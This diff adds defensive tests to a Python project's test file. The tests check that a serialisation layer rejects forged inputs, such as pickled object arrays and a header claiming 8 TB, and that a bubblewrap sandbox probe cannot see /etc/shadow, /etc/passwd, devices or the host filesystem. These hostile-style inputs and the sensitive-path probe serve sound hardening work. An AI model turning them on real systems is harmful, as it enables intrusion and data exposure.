+    assert result.returncode == 0, result.stderr
 
 
 # ------------------------------------------------------------------- the wire
@@ -268,12 +689,13 @@ def test_wire_round_trip(value):
     elif isinstance(value, np.generic):
         assert back == value.item() and type(back) is type(value.item())
     elif isinstance(value, list) and value and isinstance(value[0], np.ndarray):
-        assert all(np.array_equal(a, b) for a, b in zip(back, value))
+        assert all(np.array_equal(a, b) for a, b in zip(back, value, strict=True))
     else:
         assert back == value and type(back) is type(value)
 
 
-@pytest.mark.parametrize("value", [object(), np.array([object()]), {1: 2}, np.array(["a"]), print])
+@pytest.mark.parametrize("value", [object(), np.array([object()]), {1: 2}, np.array(["a"]), print,
+                                   np.zeros(wire.MAX_ELEMENTS + 1), [0] * (wire.MAX_ELEMENTS + 1)])
 def test_wire_refuses_what_is_not_plain_data(value):
     with pytest.raises(TypeError):
         wire.encode(value)
@@ -287,10 +709,53 @@ def test_wire_decode_refuses_forgeries():
     np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                   "shape": (10**6, 10**6)})
     huge = base64.b64encode(header.getvalue() + b"\0" * 8).decode()   # claims 8 TB
+    big = io.BytesIO()
+    np.save(big, np.zeros(wire.MAX_ELEMENTS + 1))
     pickled = io.BytesIO()
     np.save(pickled, np.array([{}], dtype=object), allow_pickle=True)
-    for forged in [{"ndarray": huge}, {"ndarray": base64.b64encode(pickled.getvalue()).decode()},
+    for forged in [{"ndarray": huge}, {"ndarray": base64.b64encode(big.getvalue()).decode()},
+                   {"ndarray": base64.b64encode(pickled.getvalue()).decode()},
                    {"ndarray": base64.b64encode(pickle.dumps([1])).decode()},
-                   {"ndarray": "not base64 !"}, {"set": [1]}, {"list": "x"}, {"a": 1, "b": 2}]:
+                   {"ndarray": "not base64 !"}, {"ndarray": "é"}, {"set": [1]}, {"list": "x"},
+                   {"a": 1, "b": 2}]:
         with pytest.raises(ValueError):
             wire.decode(forged)
+
+
+def test_the_sandbox_sees_only_what_it_needs(tmp_path):
+    sandbox = sandboxes.choose("bubblewrap")
+    probe = sandboxes.Process(sandbox, r'''
+import os, sys, json
+seen = {p: os.path.exists(p) for p in ["/home", "/etc/shadow", "/etc/passwd", "/dev/tty",
+                                       "/dev/kmsg", "/dev/pts", "/dev/shm", @REPO@, @TMP@]}
+seen["dev"] = sorted(os.listdir("/dev"))
+seen["tmp"] = os.listdir("/tmp")
+seen["root"] = os.listdir("/root") if os.path.exists("/root") else []
+seen["uid"] = os.getuid()
+seen["uid_map"] = open("/proc/self/uid_map").read()
+seen["caps"] = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
+seen["sid"] = os.getsid(0) == os.getpid() or os.getsid(0) <= 2
+for ns in ["user", "mnt", "pid", "net", "ipc", "uts"]:
+    seen[ns] = os.readlink(f"/proc/self/ns/{ns}")
+try:
+    import book
+    seen["book"] = True
+except ImportError:
+    seen["book"] = False
+import numpy, sympy, scipy
+sys.stdout.write(json.dumps(seen))
+'''.replace("@REPO@", repr(str(ROOT))).replace("@TMP@", repr(str(tmp_path))), 60, 2**30)
+    try:
+        out, err = probe.communicate()
+    finally:
+        probe.kill()
+    seen = json.loads(out)
+    assert not any(seen[p] for p in ["/home", "/etc/shadow", "/etc/passwd", "/dev/tty", "/dev/kmsg",
+                                     "/dev/pts", "/dev/shm", str(ROOT), str(tmp_path)]), seen
+    assert seen["dev"] == ["null", "random", "urandom", "zero"]
+    assert seen["tmp"] == [] and seen["book"] is False
+    assert seen["uid"] == sandboxes.SANDBOX_UID and seen["caps"] == "0000000000000000"
+    for ns in ["user", "mnt", "pid", "net", "ipc", "uts"]:
+        assert seen[ns] != os.readlink(f"/proc/self/ns/{ns}"), ns
+    host_uid = int(seen["uid_map"].split()[1])   # the uid it has on the host
+    assert host_uid == (sandboxes.SANDBOX_UID if os.geteuid() == 0 else os.geteuid())
